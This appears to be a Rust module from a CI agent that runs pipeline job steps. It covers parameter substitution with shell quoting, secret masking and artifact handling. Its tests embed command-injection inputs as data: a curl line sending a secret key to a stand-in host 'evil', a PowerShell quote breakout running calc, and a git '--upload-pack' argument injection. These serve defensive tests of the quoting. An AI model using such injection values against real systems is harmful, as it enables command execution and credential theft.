//! One job, start to finish: workspace, steps in order, artifacts, the final status.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use cygnet_proto::v1 as pb;
use pb::job_event::Event;
use tokio::sync::{mpsc, watch};

use super::Jobs;
use super::artifacts;
use super::logs::LogSink;
use super::process::{self, StepEnd, StepProcess};
use crate::mask::Masker;

/// How often buffered output is sent while a step runs.
const FLUSH_EVERY: Duration = Duration::from_millis(100);

/// Characters a parameter value may consist of to be inserted into a command as it is: none
/// of them means anything to a shell (no quoting, expansion, globbing or command separator).
fn is_plain(value: &str) -> bool {
    value.chars().all(|c| {
        c.is_ascii_alphanumeric()
            || matches!(c, '_' | '.' | ',' | ':' | '/' | '@' | '+' | '=' | '-')
    })
}

/// A value with other characters, as one literal word of the step's shell: whoever runs a
/// pipeline chooses its parameters, and a parameter must never become code (`x; curl …`).
fn quoted(value: &str, shell: i32) -> Result<String, String> {
    match pb::Shell::try_from(shell) {
        // PowerShell reads the typographic single quotes (U+2018–U+201B) as `'` too: each is
        // doubled like `'`, so none can end the string.
        Ok(pb::Shell::Pwsh) => {
            let mut quoted = String::with_capacity(value.len() + 2);
            quoted.push('\'');
            for c in value.chars() {
                if matches!(c, '\'' | '\u{2018}' | '\u{2019}' | '\u{201A}' | '\u{201B}') {
                    quoted.push(c);
                }
                quoted.push(c);
            }
            quoted.push('\'');
            Ok(quoted)
        }
        Ok(pb::Shell::Cmd) => Err("cmd has no quoting that keeps every value literal".into()),
        // bash, sh: single quotes keep everything literal; a quote is closed, escaped, reopened.
        _ => Ok(format!("'{}'", value.replace('\'', r"'\''"))),
    }
}

/// Replaces `{{NAME}}` with the parameter's value, the name matched case-insensitively (as the
/// original system did); unknown names are left as they are. A value of plain characters
/// ([`is_plain`]) goes in as it is; any other is quoted for the step's shell, so it stays one
/// literal string (under `cmd`, which cannot quote it, the step does not run).
pub fn substitute(
    command: &str,
    parameters: &BTreeMap<String, String>,
    shell: i32,
) -> Result<String, String> {
    let mut result = String::with_capacity(command.len());
    let mut rest = command;
    while let Some(start) = rest.find("{{") {
        result.push_str(&rest[..start]);
        let after = &rest[start + 2..];
        match after.find("}}") {
            Some(end) => {
                let name = after[..end].trim();
                match parameters
                    .iter()
                    .find(|(key, _)| key.eq_ignore_ascii_case(name))
                {
                    Some((_, value)) if is_plain(value) => result.push_str(value),
                    Some((key, value)) => result.push_str(
                        &quoted(value, shell)
                            .map_err(|problem| format!("parameter {key}: {problem}"))?,
                    ),
                    None => result.push_str(&rest[start..start + 2 + end + 2]),
                }
                rest = &after[end + 2..];
            }
            None => {
                result.push_str(&rest[start..]);
                rest = "";
            }
        }
    }
    result.push_str(rest);
    Ok(result)
}

/// The interpreter and arguments for a step, or why this agent cannot run it.
fn interpreter(shell: i32, script: String) -> Result<(PathBuf, Vec<String>), String> {
    let (name, arguments): (&str, Vec<String>) = match pb::Shell::try_from(shell) {
        Ok(pb::Shell::Unspecified | pb::Shell::Bash) => (
            "bash",
            vec![
                "--noprofile".into(),
                "--norc".into(),
                "-eo".into(),
                "pipefail".into(),
                "-c".into(),
                script,
            ],
        ),
        Ok(pb::Shell::Sh) => ("sh", vec!["-e".into(), "-c".into(), script]),
        Ok(pb::Shell::Pwsh) => (
            "pwsh",
            vec![
                "-NoProfile".into(),
                "-NonInteractive".into(),
                "-Command".into(),
                script,
            ],
        ),
        Ok(pb::Shell::Cmd) => ("cmd", vec!["/D".into(), "/S".into(), "/C".into(), script]),
        Err(_) => return Err(format!("shell {shell} is not known to this agent")),
    };
    process::find_program(name)
        .map(|program| (program, arguments))
        .ok_or_else(|| format!("shell {name} is not available on this agent"))
}

/// Where a deploy job's shipped artifacts are fetched to.
fn artifacts_directory(workspace: &Path) -> PathBuf {
    workspace.join("artifacts")
}

/// The step's environment: a few of the agent's variables, the CygnetCI ids, the original
/// system's names (and release names for deploys), `PARAM_<NAME>` per parameter, then the step's
/// own.
fn environment(
    assignment: &pb::JobAssignment,
    step: &pb::Step,
    workspace: &Path,
    parameters: &BTreeMap<String, String>,
) -> BTreeMap<String, String> {
    let mut environment = process::inherited_environment();
    let ids = [
        ("CYGNET_CUSTOMER_ID", assignment.customer_id.to_string()),
        ("CYGNET_PIPELINE_ID", assignment.pipeline_id.to_string()),
        ("CYGNET_EXECUTION_ID", assignment.execution_id.to_string()),
        ("CYGNET_STEP_NAME", step.name.clone()),
        ("CYGNET_WORKSPACE", workspace.display().to_string()),
        ("PIPELINE_NAME", assignment.pipeline_name.clone()),
        ("PIPELINE_ID", assignment.pipeline_id.to_string()),
        ("EXECUTION_ID", assignment.execution_id.to_string()),
        ("STEP_NAME", step.name.clone()),
        ("CI", "true".to_owned()),
    ];
    for (name, value) in ids {
        environment.insert(name.to_owned(), value);
    }
    if let Some(release) = &assignment.release {
        let release_variables = [
            ("ENVIRONMENT_NAME", release.environment_name.clone()),
            ("RELEASE_NAME", release.release_name.clone()),
            ("RELEASE_NUMBER", release.release_number.to_string()),
            ("RELEASE_VERSION", release.version.clone()),
            (
                "CYGNET_ARTIFACTS_DIR",
                artifacts_directory(workspace).display().to_string(),
            ),
        ];
        for (name, value) in release_variables {
            environment.insert(name.to_owned(), value);
        }
    }
    for (name, value) in parameters {
        environment.insert(
            format!("PARAM_{}", name.to_ascii_uppercase()),
            value.clone(),
        );
    }
    // The pipeline's variables; a step's own env may replace a plain one, never a secret.
    for variable in assignment.variables.iter().filter(|v| !v.is_secret) {
        environment.insert(variable.key.clone(), variable.value.clone());
    }
    for (name, value) in &step.env {
        environment.insert(name.clone(), value.clone());
    }
    for variable in assignment.variables.iter().filter(|v| v.is_secret) {
        environment.insert(variable.key.clone(), variable.value.clone());
    }
    environment
}

/// The job's secret values masked in each output stream (a secret split across reads included).
struct Masks {
    stdout: Masker,
    stderr: Masker,
}

impl Masks {
    fn new(secrets: &[String]) -> Self {
        let stdout = Masker::new(secrets);
        Masks {
            stderr: stdout.clone(),
            stdout,
        }
    }

    fn write(&mut self, sink: &mut LogSink, stream: pb::LogStream, data: &[u8]) {
        let mask = match stream {
            pb::LogStream::Stderr => &mut self.stderr,
            _ => &mut self.stdout,
        };
        sink.write(stream, &mask.push(data));
    }

    /// The step ended: what was held back (a possible start of a secret) goes out.
    fn finish(&mut self, sink: &mut LogSink) {
        sink.write(pb::LogStream::Stdout, &self.stdout.finish());
        sink.write(pb::LogStream::Stderr, &self.stderr.finish());
    }
}

fn finish(jobs: &Jobs, execution_id: i64, status: pb::ExecutionStatus, reason: String) {
    jobs.outbox.push(
        execution_id,
        Event::Finished(pb::JobFinished {
            status: status.into(),
            reason,
        }),
    );
}

/// Runs a job and reports every step of it through the outbox.
pub async fn run_job(
    jobs: &Arc<Jobs>,
    assignment: pb::JobAssignment,
    mut cancelled: watch::Receiver<Option<String>>,
) {
    let settings = &jobs.settings;
    let execution_id = assignment.execution_id;
    // The agent-layer rule: this agent works for one customer only, whatever the server says.
    if assignment.customer_id != settings.customer_id {
        let reason = format!(
            "job of customer {} refused: this agent belongs to customer {}",
            assignment.customer_id, settings.customer_id
        );
        tracing::error!(execution_id, "{reason}");
        jobs.outbox
            .push(execution_id, Event::Rejected(pb::JobRejected { reason }));
        return;
    }
    let pipeline_directory = settings
        .work_directory
        .join(settings.customer_id.to_string())
        .join(assignment.pipeline_id.to_string());
    let workspace = pipeline_directory.join(execution_id.to_string());
    let prepared = match &settings.run_as {
        // The step user owns its job's workspace and nothing else: the directories above it
        // stay the agent's (traversable, not listable), so a step cannot put a symlink where
        // the agent, as root, will create, chmod or chown a directory later.
        Some(user) => {
            let customer_directory = pipeline_directory
                .parent()
                .unwrap_or(&pipeline_directory)
                .to_path_buf();
            crate::workdir::agent_directory(&customer_directory, 0o711)
                .and_then(|()| crate::workdir::agent_directory(&pipeline_directory, 0o711))
                .and_then(|()| crate::workdir::agent_directory(&workspace, 0o700))
                .and_then(|()| user.take_ownership(&workspace))
        }
        None => crate::workdir::create_private_directory(&pipeline_directory)
            .and_then(|()| crate::workdir::create_private_directory(&workspace)),
    };
    if let Err(error) = prepared {
        jobs.outbox.push(
            execution_id,
            Event::Started(pb::JobStarted {
                workspace: workspace.display().to_string(),
            }),
        );
        finish(
            jobs,
            execution_id,
            pb::ExecutionStatus::Failed,
            format!("cannot create the workspace: {error}"),
        );
        return;
    }
    tracing::info!(execution_id, pipeline = %assignment.pipeline_name, "job started");
    jobs.outbox.push(
        execution_id,
        Event::Started(pb::JobStarted {
            workspace: workspace.display().to_string(),
        }),
    );
    if let Some(release) = &assignment.release
        && let Err(reason) = fetch_shipped_artifacts(jobs, execution_id, release, &workspace).await
    {
        finish(jobs, execution_id, pb::ExecutionStatus::Failed, reason);
        clean_workspaces(&pipeline_directory, &workspace, settings.keep_workspaces).await;
        return;
    }
    let parameters: BTreeMap<String, String> = assignment.parameters.clone().into_iter().collect();
    let job_timeout =
        Duration::from_secs(u64::try_from(assignment.timeout_seconds.max(1)).unwrap_or(3600));
    let job_deadline = tokio::time::Instant::now() + job_timeout;
    let mut sink = LogSink::new(jobs.outbox.clone(), execution_id, settings.max_log_bytes);
    // Secret values are masked in the output before it leaves the host (or reaches the spool).
    let secrets: Vec<String> = assignment
        .variables
        .iter()
        .filter(|variable| variable.is_secret)
        .map(|variable| variable.value.clone())
        .collect();
    let mut masks = Masks::new(&secrets);
    let mut outcome: Option<(pb::ExecutionStatus, String)> = None;

    for (index, step) in assignment.steps.iter().enumerate() {
        let step_index = index as i32;
        if let Some((_, reason)) = &outcome {
            jobs.outbox.push(
                execution_id,
                Event::StepFinished(pb::StepFinished {
                    step_index,
                    status: pb::StepStatus::Skipped.into(),
                    exit_code: None,
                    reason: format!("not run: {reason}"),
                }),
            );
            continue;
        }
        jobs.outbox.push(
            execution_id,
            Event::StepStarted(pb::StepStarted { step_index }),
        );
        sink.set_step(step_index);
        let step_timeout = match step.timeout_seconds {
            seconds if seconds > 0 => Duration::from_secs(seconds as u64),
            _ => job_timeout,
        };
        let step_deadline = (tokio::time::Instant::now() + step_timeout).min(job_deadline);
        let timed_out_reason = if step_deadline == job_deadline {
            format!(
                "timed out after {} s (pipeline timeout)",
                job_timeout.as_secs()
            )
        } else {
            format!("timed out after {} s", step_timeout.as_secs())
        };
        let script = substitute(&step.command, &parameters, step.shell);
        let end = match script.and_then(|script| interpreter(step.shell, script)) {
            Err(reason) => StepEnd::NotStarted(reason),
            Ok((program, arguments)) => {
                let (output, mut received) = mpsc::channel(64);
                let run = process::run(
                    StepProcess {
                        program: &program,
                        arguments,
                        workspace: &workspace,
                        environment: environment(&assignment, step, &workspace, &parameters),
                        deadline: step_deadline,
                        kill_grace: settings.kill_grace,
                        run_as: settings.run_as.as_deref(),
                        groups: &settings.step_groups,
                    },
                    cancelled.clone(),
                    output,
                );
                tokio::pin!(run);
                let mut flush = tokio::time::interval(FLUSH_EVERY);
                let end = loop {
                    tokio::select! {
                        end = &mut run => {
                            while let Ok((stream, data)) = received.try_recv() {
                                masks.write(&mut sink, stream, &data);
                            }
                            break end;
                        }
                        Some((stream, data)) = received.recv() => masks.write(&mut sink, stream, &data),
                        _ = flush.tick() => sink.flush(),
                    }
                };
                masks.finish(&mut sink);
                end
            }
        };
        sink.finish_step();
        let name = &step.name;
        let (status, exit_code, reason) = match end {
            StepEnd::Exited(0) => {
                match upload_artifacts(jobs, execution_id, step_index, step, &workspace, &sink)
                    .await
                {
                    Ok(()) => (pb::StepStatus::Succeeded, Some(0), String::new()),
                    Err(reason) => (pb::StepStatus::Failed, Some(0), reason),
                }
            }
            StepEnd::Exited(code) => (
                pb::StepStatus::Failed,
                Some(code),
                format!("exit code {code}"),
            ),
            StepEnd::Signalled(reason) | StepEnd::NotStarted(reason) => {
                (pb::StepStatus::Failed, None, reason)
            }
            StepEnd::TimedOut => (pb::StepStatus::TimedOut, None, timed_out_reason),
            StepEnd::Cancelled(reason) => (pb::StepStatus::Cancelled, None, reason),
        };
        jobs.outbox.push(
            execution_id,
            Event::StepFinished(pb::StepFinished {
                step_index,
                status: status.into(),
                exit_code,
                reason: reason.clone(),
            }),
        );
        outcome = match status {
            pb::StepStatus::Succeeded => None,
            pb::StepStatus::Failed if step.continue_on_error => {
                sink.system(format!(
                    "step {name:?} failed ({reason}); continuing (continue_on_error)"
                ));
                None
            }
            pb::StepStatus::Failed => Some((
                pb::ExecutionStatus::Failed,
                format!("{reason} in step {name:?}"),
            )),
            pb::StepStatus::TimedOut => Some((
                pb::ExecutionStatus::TimedOut,
                format!("{reason} in step {name:?}"),
            )),
            _ => Some((pb::ExecutionStatus::Cancelled, reason)),
        };
        // A cancellation between steps stops the job too.
        if outcome.is_none()
            && let Some(reason) = cancelled.borrow_and_update().clone()
        {
            outcome = Some((pb::ExecutionStatus::Cancelled, reason));
        }
    }
    let (status, reason) = outcome.unwrap_or((pb::ExecutionStatus::Succeeded, String::new()));
    tracing::info!(execution_id, status = status.as_str_name(), %reason, "job finished");
    finish(jobs, execution_id, status, reason);
    clean_workspaces(&pipeline_directory, &workspace, settings.keep_workspaces).await;
}

async fn upload_artifacts(
    jobs: &Jobs,
    execution_id: i64,
    step_index: i32,
    step: &pb::Step,
    workspace: &Path,
    sink: &LogSink,
) -> Result<(), String> {
    if step.artifacts.is_empty() {
        return Ok(());
    }
    let files = artifacts::resolve(workspace, &step.artifacts)?;
    let Some(target) = jobs.upload_target() else {
        return Err("cannot upload artifacts: not connected to the server".into());
    };
    for (path, relative) in files {
        let (size, sha256) = artifacts::upload(
            &target,
            execution_id,
            step_index,
            &path,
            workspace,
            &relative,
            jobs.settings.max_artifact_bytes,
        )
        .await?;
        sink.system(format!(
            "uploaded artifact {relative} ({size} bytes, sha256 {sha256})"
        ));
    }
    Ok(())
}

/// Fetches a deploy's shipped artifacts to `<workspace>/artifacts/<pipeline id>/<path>`.
async fn fetch_shipped_artifacts(
    jobs: &Jobs,
    execution_id: i64,
    release: &pb::ReleaseContext,
    workspace: &Path,
) -> Result<(), String> {
    if release.artifacts.is_empty() {
        return Ok(());
    }
    let Some(target) = jobs.upload_target() else {
        return Err("cannot fetch the release's artifacts: not connected to the server".into());
    };
    let directory = artifacts_directory(workspace);
    for artifact in &release.artifacts {
        let relative = Path::new(&artifact.path);
        let safe = relative
            .components()
            .all(|part| matches!(part, std::path::Component::Normal(_)));
        if !safe {
            return Err(format!(
                "artifact {:?}: refusing a path outside the artifacts directory",
                artifact.path
            ));
        }
        let destination = directory
            .join(artifact.pipeline_id.to_string())
            .join(relative);
        artifacts::fetch(&target, execution_id, artifact, &destination).await?;
        jobs.outbox.push(
            execution_id,
            Event::Log(pb::LogOutput {
                step_index: -1,
                stream: pb::LogStream::System.into(),
                text: format!(
                    "fetched artifact {} of pipeline {} ({} bytes, sha256 {})\n",
                    artifact.path, artifact.pipeline_id, artifact.size_bytes, artifact.sha256
                ),
            }),
        );
    }
    Ok(())
}

/// Removes the finished workspace, or keeps the newest `keep` of the pipeline.
async fn clean_workspaces(pipeline_directory: &Path, workspace: &Path, keep: usize) {
    if keep == 0 {
        if let Err(error) = tokio::fs::remove_dir_all(workspace).await {
            tracing::warn!(%error, workspace = %workspace.display(), "could not remove the workspace");
        }
        return;
    }
    let Ok(mut entries) = tokio::fs::read_dir(pipeline_directory).await else {
        return;
    };
    let mut executions = Vec::new();
    while let Ok(Some(entry)) = entries.next_entry().await {
        if let Some(id) = entry
            .file_name()
            .to_str()
            .and_then(|name| name.parse::<i64>().ok())
        {
            executions.push((id, entry.path()));
        }
    }
    executions.sort_unstable_by_key(|(id, _)| std::cmp::Reverse(*id));
    for (_, path) in executions.into_iter().skip(keep) {
        let _ = tokio::fs::remove_dir_all(path).await;
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn parameters_are_substituted_case_insensitively() {
        let parameters: BTreeMap<String, String> = [
            ("VERSION".to_owned(), "1.2".to_owned()),
            ("Env".to_owned(), "prod".to_owned()),
        ]
        .into();
        assert_eq!(
            substitute(
                "deploy {{version}} to {{ ENV }} ({{UNKNOWN}}) {{",
                &parameters,
                pb::Shell::Bash as i32
            ),
            Ok("deploy 1.2 to prod ({{UNKNOWN}}) {{".to_owned())
        );
    }

    #[test]
    fn a_parameter_never_becomes_code() {
        let parameters: BTreeMap<String, String> = [(
            "TARGET".to_owned(),
            "x'; curl -d \"$KEY\" evil #".to_owned(),
        )]
        .into();
        let bash = substitute("deploy {{TARGET}}", &parameters, pb::Shell::Bash as i32)
            .expect("bash quotes");
        assert_eq!(bash, r#"deploy 'x'\''; curl -d "$KEY" evil #'"#);
        // The shell itself reads it back as the one literal value.
        let echoed = std::process::Command::new("sh")
            .args(["-c", &bash.replacen("deploy", "printf %s", 1)])
            .output()
            .expect("sh");
        assert_eq!(
            String::from_utf8_lossy(&echoed.stdout),
            parameters["TARGET"]
        );
        assert_eq!(
            substitute("deploy {{TARGET}}", &parameters, pb::Shell::Pwsh as i32),
            Ok(r#"deploy 'x''; curl -d "$KEY" evil #'"#.to_owned())
        );
        assert!(
            substitute("deploy {{TARGET}}", &parameters, pb::Shell::Cmd as i32)
                .is_err_and(|problem| problem.starts_with("parameter TARGET"))
        );
        // PowerShell ends a single-quoted string at a typographic quote too: doubled, it stays
        // inside; a value with a space is one word, quoted.
        let curly = BTreeMap::from([("T".to_owned(), "x\u{2019}; calc; \u{2018}".to_owned())]);
        assert_eq!(
            substitute("run {{T}}", &curly, pb::Shell::Pwsh as i32),
            Ok("run 'x\u{2019}\u{2019}; calc; \u{2018}\u{2018}'".to_owned())
        );
        let spaced = BTreeMap::from([("T".to_owned(), "a --upload-pack=x".to_owned())]);
        assert_eq!(
            substitute("git fetch {{T}}", &spaced, pb::Shell::Bash as i32),
            Ok("git fetch 'a --upload-pack=x'".to_owned())
        );
    }
}
